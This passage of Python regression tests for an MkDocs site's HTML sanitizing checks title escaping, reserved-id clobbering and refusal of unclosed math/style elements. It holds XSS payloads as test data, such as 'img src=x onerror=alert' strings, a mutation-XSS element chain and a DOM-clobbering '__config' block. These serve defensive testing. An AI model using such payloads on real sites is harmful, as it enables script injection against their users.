    """The theme's striptags decodes entities: an escaped tag in a heading came out as a tag in <title>."""
    (tiny_site / "docs/en/about.md").write_text("# Attack &lt;img src=x onerror=alert(1)&gt; &amp; more\n", encoding="utf-8")
    result = run_mkdocs(tiny_site, "build", "--strict")
    assert result.returncode == 0, result.stderr[-1500:]
    page = (tiny_site / "site/en/about/index.html").read_text(encoding="utf-8")
    assert "<title>Attack &lt;img src=x onerror=alert(1)&gt; &amp; more - " in page
    assert "<img src=x" not in page


def test_no_element_of_a_page_takes_an_id_of_the_themes_own(tiny_site: Path) -> None:
    """A paragraph given the id __config came first in the page and became the site's settings:
    a translation in it ran as script in the copy button's tooltip. Tabs keep their own ids."""
    page = ('# Clobber\n\n{"features": [], "translations": {"clipboard.copy": "x"}}\n{: #__config hidden }\n\n'
            '## Search {#__search}\n\n<p id="__drawer">d</p><label for="__toc">t</label>\n\n'
            '=== "One"\n\n    first\n\n=== "Two"\n\n    second\n')
    for lang in ("ko", "en"):
        (tiny_site / "docs" / lang / "clobber.md").write_text(page, encoding="utf-8")
    result = run_mkdocs(tiny_site, "build", "--strict")
    assert result.returncode == 0, result.stderr[-1500:]
    for lang in ("ko", "en"):
        built = (tiny_site / "site" / lang / "clobber/index.html").read_text(encoding="utf-8")
        assert built.count('id="__config"') == 1 and built.index('id="__config"') > built.index("</article>")  # the theme's own only
        article = built.split("<article", 1)[1].split("</article>", 1)[0]
        assert not re.search(r'(id|for)="__(config|search|drawer|toc)"', article), article
        assert 'id="__tabbed_1_1"' in article and 'for="__tabbed_1_2"' in article and "second" in article  # the tabs work


def test_an_element_the_sanitizer_removes_whole_is_refused_on_a_hand_written_page(tiny_site: Path) -> None:
    """nh3 removes <math>, <style>... with all they hold: an unclosed one silently removed the rest
    of the page (adv20t). In code, it is text."""
    en = tiny_site / "docs" / "en"
    (en / "zap.md").write_text("# Zap\n\nBefore.\n\n<math><mtext><table><mglyph><style><img src=x onerror=alert(24)>\n\n## After\n", encoding="utf-8")
    (en / "shown.md").write_text("# Shown\n\nThe `<style>` element, and:\n\n```html\n<script>x()</script>\n```\n", encoding="utf-8")
    assert refused_pages(tiny_site) == [
        "docs/en/zap.md:5: <math> is not published, with all it holds (unclosed, it would take the rest of the page with it); "
        "remove it, or write it in `backticks` to show it"]
